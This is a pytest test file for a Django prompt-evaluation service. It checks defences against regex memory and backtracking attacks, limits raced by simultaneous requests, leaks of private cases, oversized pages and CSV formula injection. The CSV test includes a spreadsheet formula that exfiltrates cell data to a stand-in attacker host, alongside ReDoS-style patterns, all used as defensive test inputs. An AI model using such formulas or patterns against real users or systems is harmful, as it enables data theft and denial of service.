"""What one user could do to everyone through failure cases and evaluations: patterns that eat
the web process's memory, limits raced by simultaneous requests, results that outlive a case's
permission, pages that grow without bound, spreadsheet formulas, an evaluation whose job
worker died."""

import csv
import io
import json
import threading
from datetime import timedelta

import pytest
from django.test import Client
from django.utils import timezone

from accounts.services import api_token_create
from chat.models import Conversation, Message
from evals import importing, scorers, services
from evals.models import Evaluation, EvaluationResult, FailureCase
from studio.jobs import JobStatus

pytestmark = pytest.mark.django_db


@pytest.fixture
def token(alice):
    return api_token_create(user=alice, name="ci")[1]


def post_evaluation(client, token, scorer):
    return client.post(
        "/api/evaluations/",
        json.dumps({"prompt": "order-json", "scorers": [scorer]}),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )


def resident_mib() -> float:
    with open("/proc/self/status") as status:
        line = next(line for line in status if line.startswith("VmRSS:"))
    return int(line.split()[1]) / 1024


def test_huge_regex_repetitions_are_refused_and_the_web_process_memory_stays_flat(client, token, make_cases):
    make_cases(2)
    post_evaluation(client, token, {"type": "regex", "pattern": "x{3}"})  # the render processes are started
    before = resident_mib()
    for pattern in ["x{999999999}", "x{2000000}", "x{2000000}", "x{2000000}", "(?:(?:x{1000}){1000}){1000}"]:
        answer = post_evaluation(client, token, {"type": "regex", "pattern": pattern})
        assert answer.status_code == 400, pattern
        assert "repetition" in answer.json()["error"] or "more memory or time" in answer.json()["error"]
    assert resident_mib() - before < 50  # each x{2000000} compiled here used to leave ~280 MB behind
    assert Evaluation.objects.count() == 1


def test_patterns_whose_repetitions_multiply_are_refused_with_a_code_before_a_job_worker_caches_them(
    client, token, make_cases
):
    make_cases(2)
    for letter in "abc":  # each compiled and kept 124-139 MB in the job worker's pattern cache
        answer = post_evaluation(client, token, {"type": "regex", "pattern": f"(?:{letter}{{1000}}){{1000}}"})
        assert answer.status_code == 400
        assert answer.json()["code"] == "pattern_too_complex"
        assert "scorers[0].pattern: its repetitions written out come to 1,000,000 characters" in answer.json()["error"]
    assert not Evaluation.objects.exists()


def test_a_regex_that_runs_out_of_time_on_an_output_is_a_scorer_error_not_a_zero():
    spec = scorers.clean_scorers([{"type": "regex", "pattern": "(a|aa)+$"}])[0]
    with pytest.raises(scorers.ScoringFailed, match="took longer than 1 s"):
        scorers.score(spec, "a" * 60 + "!", "")


def test_the_result_page_shows_a_scorer_error_beside_the_output(client, alice, make_cases, order_version):
    case = make_cases(1)[0]
    evaluation = Evaluation.objects.create(
        prompt_version=order_version,
        model_name="m",
        created_by=alice,
        scorers=[{"type": "regex", "pattern": "(a|aa)+$", "threshold": 1}],
        status=JobStatus.FINISHED,
        total=1,
        done=1,
    )
    EvaluationResult.objects.create(
        evaluation=evaluation,
        case=case,
        output="aaaa!",
        scores={"regex": None},
        error="regex: the pattern took longer than 1 s on this output and was stopped",
    )
    client.force_login(alice)
    page = client.get(f"/evaluations/{evaluation.pk}/").content.decode()
    assert "aaaa!" in page and "took longer than 1 s" in page and 'regex <span class="error-text">error' in page


@pytest.mark.django_db(transaction=True)
def test_simultaneous_evaluations_cannot_pass_the_per_person_limit_together(token, make_cases, settings):
    make_cases(2)
    settings.EVAL_MAX_QUEUED_PER_USER = 3
    statuses, start = [], threading.Barrier(10)

    def request():
        start.wait()
        statuses.append(post_evaluation(Client(), token, {"type": "exact_match"}).status_code)

    threads = [threading.Thread(target=request) for _ in range(10)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(120)
    assert sorted(statuses) == [202] * 3 + [429] * 7 and Evaluation.objects.count() == 3


def test_a_case_made_private_after_an_evaluation_is_hidden_from_the_others(
    client, alice, bob, make_cases, order_version
):
    cases = make_cases(2)
    evaluation = Evaluation.objects.create(
        prompt_version=order_version,
        model_name="m",
        created_by=alice,
        scorers=[{"type": "exact_match", "threshold": 1}],
        status=JobStatus.FINISHED,
        total=2,
        done=2,
    )
    other = Evaluation.objects.create(
        prompt_version=order_version,
        model_name="m",
        created_by=alice,
        scorers=[{"type": "exact_match", "threshold": 1}],
        status=JobStatus.FINISHED,
        total=2,
        done=2,
    )
    for run in (evaluation, other):
        for case in cases:
            EvaluationResult.objects.create(evaluation=run, case=case, output=f"output of {case.input_display}")
    services.case_update(case=cases[0], user=alice, changes={"shared": False})
    secret = cases[0].input_display
    client.force_login(bob)
    for url in (f"/evaluations/{evaluation.pk}/", f"/evaluations/compare/?a={evaluation.pk}&b={other.pk}"):
        page = client.get(url).content.decode()
        assert secret not in page and "A private case" in page and cases[1].input_display in page
    token = api_token_create(user=bob, name="ci")[1]
    results = client.get(f"/api/evaluations/{evaluation.pk}/", HTTP_AUTHORIZATION=f"Bearer {token}").json()["results"]
    assert results[0] == {"case": cases[0].pk, "passed": False, "private": True}
    assert "output" in results[1]
    client.force_login(alice)  # its author still sees it
    assert secret in client.get(f"/evaluations/{evaluation.pk}/").content.decode()


def test_an_evaluation_of_ten_thousand_cases_pages_its_results(client, alice, make_cases, order_version):
    case = make_cases(1)[0]
    cases = [
        FailureCase(
            prompt_version=order_version,
            input_text=f"input {n} " + "words " * 20,
            expected="x" * 100,
            created_by=alice,
            input_digest=f"{n:064d}",
        )
        for n in range(10_000)
    ]
    FailureCase.objects.bulk_create(cases)
    cases = list(FailureCase.objects.exclude(pk=case.pk))
    runs = []
    for _ in range(2):
        run = Evaluation.objects.create(
            prompt_version=order_version,
            model_name="m",
            created_by=alice,
            scorers=[{"type": "exact_match", "threshold": 1}],
            total=len(cases),
            done=len(cases),
            status=JobStatus.FINISHED,
        )
        EvaluationResult.objects.bulk_create(
            [
                EvaluationResult(
                    evaluation=run, case=c, output="o " * 80, passed=n % 3 == 0, scores={"exact_match": 0.0}
                )
                for n, c in enumerate(cases)
            ]
        )
        runs.append(run)
    client.force_login(alice)
    page = client.get(f"/evaluations/{runs[0].pk}/")
    assert page.status_code == 200 and len(page.content) < 500_000 and "Page 1 of 200" in page.content.decode()
    assert "Page 2 of 200" in client.get(f"/evaluations/{runs[0].pk}/?page=2").content.decode()
    compare = client.get(f"/evaluations/compare/?a={runs[0].pk}&b={runs[1].pk}")
    assert len(compare.content) < 500_000 and "Page 1 of 200" in compare.content.decode()
    Evaluation.objects.filter(pk=runs[0].pk).update(status=JobStatus.RUNNING)
    live = client.get(f"/evaluations/{runs[0].pk}/progress/")
    assert len(live.content) < 100_000 and live.content.decode().count('class="result ') == 10


def test_csv_cells_that_spreadsheets_would_run_are_neutralised_and_survive_a_round_trip(
    client, alice, token, order_version
):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    inputs = [formula, "+1+2", "-3", "@SUM(A1)", "\ttabbed", "'quoted", "plain"]
    for text in inputs:
        services.cases_create(user=alice, rows=[{"input": text, "expected": text}], source="api")
    exported = client.get("/api/failure-cases/export/?format=csv", HTTP_AUTHORIZATION=f"Bearer {token}")
    text = b"".join(exported.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    expected_cells = {row["expected"] for row in rows}
    assert "'" + formula in expected_cells and "'+1+2" in expected_cells and "'-3" in expected_cells
    assert "'@SUM(A1)" in expected_cells and "'\ttabbed" in expected_cells and "''quoted" in expected_cells
    assert "plain" in expected_cells and not any(cell[:1] in "=+-@\t" for cell in expected_cells)
    columns, parsed = importing.parse_file("again.csv", text.encode())
    assert sorted(row["expected"] for row in parsed) == sorted(inputs)


def test_the_sweeper_fails_an_evaluation_whose_job_worker_died_and_withdraws_its_cases(
    client, alice, make_cases, order_version
):
    from chat import services as chat_services
    from evals.runner import job_key

    make_cases(1)
    evaluation = Evaluation.objects.create(
        prompt_version=order_version,
        model_name="m",
        created_by=alice,
        scorers=[{"type": "exact_match", "threshold": 1}],
        total=3,
        status=JobStatus.RUNNING,
        heartbeat_at=timezone.now() - timedelta(minutes=10),
    )
    replies = [
        chat_services.reply_request_unlisted(
            owner=alice,
            kind=Conversation.Kind.EVALUATION,
            messages=[{"role": "user", "content": f"case {n}"}],
            model_name="",
            parameters={},
            job=job_key(evaluation.pk),
        )
        for n in range(3)
    ]
    Message.objects.filter(pk=replies[0].pk).update(status=Message.Status.STREAMING, worker_channel="gone")
    client.force_login(alice)
    assert client.get("/evaluations/").status_code == 200  # pages only read
    evaluation.refresh_from_db()
    assert evaluation.status == JobStatus.RUNNING
    from studio import sweeping

    sweeping.sweep_all()  # what every model worker, job worker and web process runs on a schedule
    evaluation.refresh_from_db()
    assert evaluation.status == JobStatus.FAILED and "job worker stopped" in evaluation.error
    assert not Conversation.objects.filter(job=job_key(evaluation.pk)).exists()
    assert not Message.objects.filter(pk__in=[reply.pk for reply in replies]).exists()
